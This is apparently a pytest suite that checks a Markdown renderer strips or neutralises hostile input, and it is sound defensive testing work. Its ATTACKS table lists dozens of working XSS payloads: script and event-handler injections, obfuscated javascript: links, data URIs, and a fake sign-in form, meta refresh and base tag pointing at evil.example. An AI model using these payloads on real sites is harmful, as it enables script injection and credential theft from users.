"""Markdown is rendered for a page of ours, and nothing in it can run, load, restyle or impersonate that page."""

import re
import time
from html.parser import HTMLParser

import pytest

from governance.markdown import LANGUAGES, render

TAGS = "a blockquote br code em h2 h3 h4 h5 h6 hr img li ol p pre s span strong table tbody td th thead tr ul"
ALLOWED = set(TAGS.split())
ATTRIBUTES = {"href", "title", "rel", "src", "alt", "start", "class", "id", "tabindex"}
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script, broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script, upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script, inline": "text <script>alert(1)</script> text",
    "script over lines": "<script\n>alert(1)\n</script\n>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror, slash": "<img/src=x/onerror=alert(1)>",
    "onerror, inline": "hello <img src=x onerror=alert(1)> there",
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "style": "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": "<embed src=javascript:alert(1)>",
    "form": '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "link": '<link rel=stylesheet href="https://evil.example/x.css">',
    "video": "<video><source onerror=alert(1)></video>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "body": "<body onload=alert(1)>",
    "comment": "<!-- --><script>alert(1)</script><!-- -->",
    "comment, odd end": "<!--> <img src=x onerror=alert(1)> -->",
    "comment in a comment": "<!-- <!-- --> <img src=x onerror=alert(1)> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing": "<?xml version='1.0'?><script>alert(1)</script>",
    "javascript link": "[x](javascript:alert(1))",
    "javascript link, case": "[x](JaVaScRiPt:alert(1))",
    "javascript link, entity": "[x](javascript&colon;alert(1))",
    "javascript link, hex entity": "[x](&#x6A;avascript:alert(1))",
    "javascript link, decimal entity": "[x](&#0000106avascript:alert(1))",
    "javascript link, tab": "[x](java&Tab;script:alert(1))",
    "javascript link, newline": "[x](<java\nscript:alert(1)>)",
    "javascript link, newline entity": "[x](java&NewLine;script:alert(1))",
    "javascript link, escaped": "[x](\\javascript:alert(1))",
    "javascript link, percent": "[x](javascript%3Aalert(1))",
    "javascript link, control": "[x](\x01javascript:alert(1))",
    "javascript link, zero width": "[x](\u200bjavascript:alert(1))",
    "javascript link, full width": "[x](ｊavascript:alert(1))",
    "javascript, reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "javascript, autolink": "<javascript:alert(1)>",
    "javascript, image": "![x](javascript:alert(1))",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "data png link": "[x](data:image/png;base64,AAAA)",
    "file": "[x](file:///etc/passwd)",
    "blob": "[x](blob:https://evil.example/1)",
    "title breaks out": '[x](https://a.example "a\\" onmouseover=\\"alert(1)")',
    "title, raw quote": "[x](https://a.example '\" onmouseover=\"alert(1)')",
    "href breaks out": '[x](<https://a.example/" onmouseover="alert(1)>)',
    "autolink breaks out": '<https://a.example/"onmouseover="alert(1)>',
    "alt breaks out": '![" onerror="alert(1)](/static/x.png)',
    "src breaks out": '![x](/static/x.png"onerror="alert(1))',
    "fence language": '```"><script>alert(1)</script>\ncode\n```',
    "fence language, class": '```x" onclick="alert(1)\ncode\n```',
    "fence content": "```html\n<script>alert(1)</script>\n```",
    "inline code": "`<script>alert(1)</script>`",
    "heading id": '# <a id="main" name="forms">x</a>',
    "heading onclick": '# x" onclick="alert(1)',
    "table cell": "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "entity decoded once": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "foreign image": "![x](https://evil.example/pixel.png)",
    "foreign image, no scheme": "![x](//evil.example/pixel.png)",
    "foreign image, backslash": "![x](/\\evil.example/pixel.png)",
}


class Inspector(HTMLParser):
    """Everything that a browser would act upon."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def scheme_of(href):
    """As the URL standard has it: controls and blanks in front are cut, tabs and line ends anywhere are dropped."""
    seen = re.sub(r"[\t\n\r]", "", href.lstrip("".join(map(chr, range(33)))))
    match = re.match(r"([a-z][a-z0-9+.-]*):", seen, re.IGNORECASE)
    return match[1].lower() if match else ""


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_inert(name):
    for text in (ATTACKS[name], f"# Title\n\n- {ATTACKS[name]}\n", f"> {ATTACKS[name]}"):
        html = render(text)
        for tag, attributes in Inspector(html).tags:
            assert tag in ALLOWED, html
            assert set(attributes) <= ATTRIBUTES, html
            assert scheme_of(attributes.get("href") or "") in {"", "http", "https", "mailto"}, html
            if "src" in attributes:
                assert attributes["src"].startswith("/"), html
                assert not attributes["src"].startswith(("//", "/\\")), html
            if "id" in attributes:
                assert attributes["id"].startswith("doc-"), html


def test_an_id_of_a_document_cannot_be_one_of_the_page():
    assert 'id="doc-main"' in render("# main")


def test_raw_html_is_shown_as_text_so_that_nothing_typed_disappears():
    assert "&lt;kbd&gt;Ctrl&lt;/kbd&gt;" in render("Press <kbd>Ctrl</kbd>")
    assert "<p>&lt;div&gt;x&lt;/div&gt;</p>" in render("<div>x</div>")


def test_comments_are_hidden_and_the_text_around_them_is_not():
    html = render("before\n\n<!-- This is\n\noptional -->\n\nmid <!-- note --> after")
    assert "optional" not in html
    assert "note" not in html
    assert "before" in html
    assert "mid" in html
    assert "after" in html


def test_a_link_carries_rel():
    assert render("[a](https://a.example)") == '<p><a href="https://a.example" rel="noopener noreferrer">a</a></p>\n'


def test_an_image_elsewhere_becomes_a_link_so_that_nobody_is_told_who_reads():
    assert "<img" not in render("![A chart](https://a.example/c.png)")
    assert ">A chart</a>" in render("![A chart](https://a.example/c.png)")
    assert '<img src="/static/img/c.png" alt="A chart">' in render("![A chart](/static/img/c.png)")


@pytest.mark.parametrize(
    ("text", "tags"),
    [
        ("# A\n## B\n### C", ["h2", "h3", "h4"]),
        ("## A\n### B", ["h2", "h3"]),
        ("### A\n#### B", ["h2", "h3"]),
        ("# A\n###### F", ["h2", "h6"]),
        ("A\n=\nB\n-", ["h2", "h3"]),
    ],
)
def test_headings_are_shifted_so_that_the_page_keeps_its_one_h1(text, tags):
    assert [tag for tag, _ in Inspector(render(text)).tags] == tags


def test_headings_have_ids_and_links_inside_the_document_find_them():
    html = render("[go](#the-steps)\n\n# The *steps*\n\n# The steps\n\n# Größe 大\n\n# !!!")
    assert 'href="#doc-the-steps"' in html
    ids = [attributes["id"] for tag, attributes in Inspector(html).tags if tag == "h2"]
    assert ids == ["doc-the-steps", "doc-the-steps-1", "doc-größe-大", "doc-section"]


def test_tables_strikethrough_and_task_lists_are_understood():
    assert "<td>1</td>" in render("|a|\n|-|\n|1|")
    assert "<s>x</s>" in render("~~x~~")
    assert render("- [ ] do\n- [x] done\n- [x]no").count("☐ do") == 1
    assert "☑ done" in render("- [ ] do\n- [x] done")


def test_do_expect_and_if_not_of_a_step_begin_lines_and_other_bold_words_do_not():
    html = render("1. **Do** this\n   **Expect** that\n   **If not** stop\n   **now**\n\ntext\n**Expect** it")
    assert html.count("<br>") == 2
    assert "<br>\n<strong>Expect</strong>" in html
    assert "<br>\n<strong>If not</strong>" in html


def test_the_keyboard_reaches_whatever_scrolls_sideways():
    assert '<table tabindex="0">' in render("|a|\n|-|\n|1|")
    assert '<pre tabindex="0"><code>' in render("text\n\n    indented code\n")
    assert '<pre class="highlight" tabindex="0"><code>' in render("```\nfenced code\n```")


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_every_language_that_is_promised_has_a_lexer(language):
    assert '<pre class="highlight" tabindex="0"><code>' in render(f"```{language}\na: 1\n```")


def test_code_is_highlighted_by_classes_and_keeps_every_character():
    html = render('```yaml\nkey: "a <b> & c"\n\n\n# end\n```')
    assert '<span class="nt">key</span>' in html
    assert "style=" not in html
    assert re.sub(r"<[^>]*>", "", html) == 'key: "a &lt;b&gt; &amp; c"\n\n\n# end\n\n'


def test_unicode_passes_through():
    text = "Ελληνικά 中文 \U0001f680 e\u0301 \u202e"
    assert text in render(text)


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "<!--",
        "a <!-- ",
        "**a _b ",
        "[a](b",
        "<a ",
        "> ",
        "`",
        "|",
        "- ",
        "![",
        "&",
        "\\",
        "<",
        "#\n",
        "<?",
        "a\n=\n",
    ],
)
def test_a_hostile_text_of_the_greatest_length_is_rendered_in_seconds(piece):
    begin = time.monotonic()
    render((piece * 200_000)[:200_000])
    assert time.monotonic() - begin < 20


@pytest.mark.parametrize("language", ["yaml", "sql", "html", "python", "js", "bash", "xml"])
def test_hostile_code_is_highlighted_in_seconds(language):
    begin = time.monotonic()
    for piece in ("<", "'", "/*", "$(", "a b ", '"\\', "<!--"):
        render(f"```{language}\n{(piece * 8_000)[:7_900]}\n```")
    assert time.monotonic() - begin < 20
